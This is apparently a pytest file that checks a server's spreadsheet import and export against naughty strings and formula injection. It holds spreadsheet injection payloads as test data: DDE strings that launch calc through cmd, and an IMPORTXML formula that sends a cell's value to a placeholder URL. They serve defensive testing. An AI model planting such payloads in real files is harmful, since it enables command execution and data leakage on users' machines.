"""The big list of naughty strings and formulas in every column: through reading, pages and what is handed back, without effect."""

import csv
import io

import pytest
from openpyxl import load_workbook

from server.imports import columns, export, staging
from server.imports.rows import Row
from tests.server.imports.lists import HEADINGS, Desk, as_csv, as_xlsx, person, reason
from tests.server.naughty.pages import Reader, wrong_with
from tests.server.naughty.strings import BIG, CHOSEN
from tests.server.test_pages_imports import bring
from tests.server.web_office import WebOffice

# What a spreadsheet takes for the beginning of a formula, the wide forms of the signs too.
FORMULAS = (
    "=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '=IMPORTXML(CONCAT("http://x?",A1),"//a")',
)  # fmt: skip
# A row's length in a workbook is limited by the library; longer cells come by CSV alone.
STRINGS = tuple(text for text in (*CHOSEN, *FORMULAS) if text and len(text) < 2000)


@pytest.fixture
def desk(db):
    desk = Desk(db, chunk=500)
    yield desk
    desk.importer.close()


def everywhere(strings):
    """Each string in every column of a row of its own, and one row that is nothing else."""
    for n, text in enumerate(strings):
        for column in range(1, len(HEADINGS)):
            row = person(n * 20 + column)
            row[column] = text
            yield row
        yield [text] * len(HEADINGS)


def handed_back(desk, name):
    held = desk.get(name)
    with desk.db.read() as conn:
        found = list(staging.failed(conn, held))
    return lambda: export.lines(columns.RECIPIENTS, held["figures"]["headings"], found, reason=reason)


def test_nothing_handed_back_is_a_formula(desk):
    name = desk.read(as_csv(*everywhere(STRINGS)))
    assert desk.get(name)["state"] == "review"
    lines = handed_back(desk, name)
    text = b"".join(export.as_csv(lines())).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert len(cells) > 1000
    assert [
        cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠"))
    ] == []
    out = io.BytesIO()
    export.as_xlsx(lines(), out)
    book = load_workbook(io.BytesIO(out.getvalue()))
    typed = {cell.data_type for row in book.active.iter_rows() for cell in row if cell.value is not None}
    assert typed == {"s"}


def test_what_is_handed_back_and_brought_in_again_says_the_same(desk):
    rows = [[str(n), "", "1950", "", "", "", "", "", "", "", "Trảng Dài", text] for n, text in enumerate(FORMULAS)]
    name = desk.read(as_csv(*rows))
    lines = handed_back(desk, name)
    for file in (io.BytesIO(b"".join(export.as_csv(lines()))), workbook(lines())):
        again = desk.rows(desk.read(file))
        assert [row.value["address"] for row in again] == [row.value["address"] for row in desk.rows(name)]


def workbook(lines):
    out = io.BytesIO()
    export.as_xlsx(lines, out)
    out.seek(0)
    return out


def test_the_whole_list_is_read_to_the_end_and_no_name_is_markup(desk):
    strings = [text for text in BIG if isinstance(text, str)]
    name = desk.read(
        as_csv(*([str(n), text, "1950", "", "", "", "", "", "", "", "Trảng Dài", ""] for n, text in enumerate(strings)))
    )
    assert (desk.get(name)["state"], desk.get(name)["rows"]) == ("review", len(strings))
    taken = [row.value["name"] for row in desk.rows(name, states=("new",))]
    assert [text for text in taken if set(text) & set('<>=@{}[]"/\\;|0123456789')] == []


def test_pages_show_them_as_text(db):
    office = WebOffice(db)
    browser = office.browser("manager")
    place = bring(office, browser, as_csv(*everywhere(STRINGS[::3])), name="<b>=1+1.csv")
    pages = [
        place,
        "/console/imports",
        *(f"{place}/rows?state={state}&page={n}" for state in ("new", "wrong") for n in (1, 2)),
    ]
    for path in pages:
        answer = browser.get(path)
        assert answer.status_code == 200
        assert wrong_with(answer) == [], path
    assert "<b>" not in " ".join(Reader(browser.get(place).text).strange)


def test_a_workbook_with_strings_in_every_cell(desk):
    strings = [text for text in STRINGS if not any(ord(char) < 32 or char in "\ufffe\uffff" for char in text)]
    name = desk.read(as_xlsx(*(["1", text, text, text, text] for text in strings)))
    assert desk.get(name)["state"] == "review"
    assert {row.state for row in desk.rows(name)} == {"wrong"}


def test_a_row_that_was_handed_back_from_its_values():
    row = Row(
        n=1, line=2, given=[], words=["changed_since"], value={"name": "An", "doc_no": "271234567", "priority_group": 3}
    )
    lines = list(
        export.lines(columns.RECIPIENTS, ["STT", "Họ tên", "Số CCCD", "Nhóm ưu tiên", "Lỗi"], [row], reason=reason)
    )
    assert lines == [["STT", "Họ tên", "Số CCCD", "Nhóm ưu tiên", "Lỗi"], ["", "An", "271234567", "3", "changed_since"]]
